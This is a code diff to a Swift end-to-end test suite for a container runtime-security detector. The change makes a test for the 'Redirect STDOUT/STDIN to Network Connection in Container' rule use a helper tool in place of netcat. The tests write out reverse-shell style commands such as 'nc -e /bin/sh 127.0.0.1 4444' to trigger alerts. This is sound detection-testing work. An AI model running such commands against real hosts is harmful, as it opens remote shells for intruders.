@@ -35,16 +35,19 @@ struct NetworkTests {
                       script: Self.listener(4444) + "\nnc -e /bin/sh 127.0.0.1 4444 </dev/null; true", process: "nc"))
     }
 
-    /// Class B: busybox nc -e dup2()s the connected socket onto stdin/stdout before it runs the program. Falco's rule
-    /// needs the type of the duplicated fd (ipv4) from the fd table; Vigil's fd.type comes only from the event's own
-    /// PATH/SOCKADDR records (AuditFieldSource.fdTypeChar), which a dup2 has not.
+    /// Class B: connect, then dup2 the socket onto stdin and stdout (what a reverse shell does first). Falco's rule
+    /// needs the type of the duplicated fd (ipv4), which comes from the enricher's fd table (socket + connect).
+    /// (busybox's nc rejects `-e` before the address, so the behaviour is e2etool's.)
     @Test func stockRedirectStdioToNetwork() throws {
-        try withKnownIssue("fd.type/fd.num of a dup2's old fd are not taken from the enricher's fd table") {
-            try expectAlert(
-                Behaviour(rule: "Redirect STDOUT/STDIN to Network Connection in Container", what: "nc -e /bin/true 127.0.0.1 4444",
-                          script: Self.listener(4444) + "\nnc -e /bin/true 127.0.0.1 4444 </dev/null; true", process: "nc"),
-                wait: 3)
+        let session = try #require(E2ESession.current)
+        guard session.hasTool else {
+            Issue.record("no C compiler: e2etool (the redirecting client) could not be built")
+            return
         }
+        try expectAlert(
+            Behaviour(rule: "Redirect STDOUT/STDIN to Network Connection in Container", what: "e2etool redirect 127.0.0.1 4444",
+                      script: Self.listener(4444) + "\n/e2e/e2etool redirect 127.0.0.1 4444", process: "e2etool"),
+            wait: 3)
     }
 
     /// Class B: a client named ssh connects to port 8080 of a public-looking address (198.51.100.7, added to the
